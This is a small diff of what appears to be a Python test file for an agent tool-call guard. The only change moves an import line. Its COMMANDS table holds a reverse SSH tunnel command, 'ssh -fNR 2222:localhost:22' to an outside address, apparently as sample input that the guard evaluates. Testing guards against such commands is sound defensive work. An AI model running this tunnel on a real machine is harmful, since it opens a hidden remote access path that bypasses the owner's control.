@@ -19,12 +19,12 @@ from pathlib import Path
 from typing import Any
 
 import regorus
-from guard.audit.ids import SystemRandomIdGenerator
 from opentelemetry.sdk.trace import TracerProvider
 from opentelemetry.sdk.trace.export import SimpleSpanProcessor
 from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter
 
 from guard import Effect, Guard, ToolCall
+from guard.audit.ids import SystemRandomIdGenerator
 from guard.parse import parse
 
 COMMANDS = {"ls -la": "ls -la", "ssh -R": "ssh -fNR 2222:localhost:22 u@203.0.113.5"}
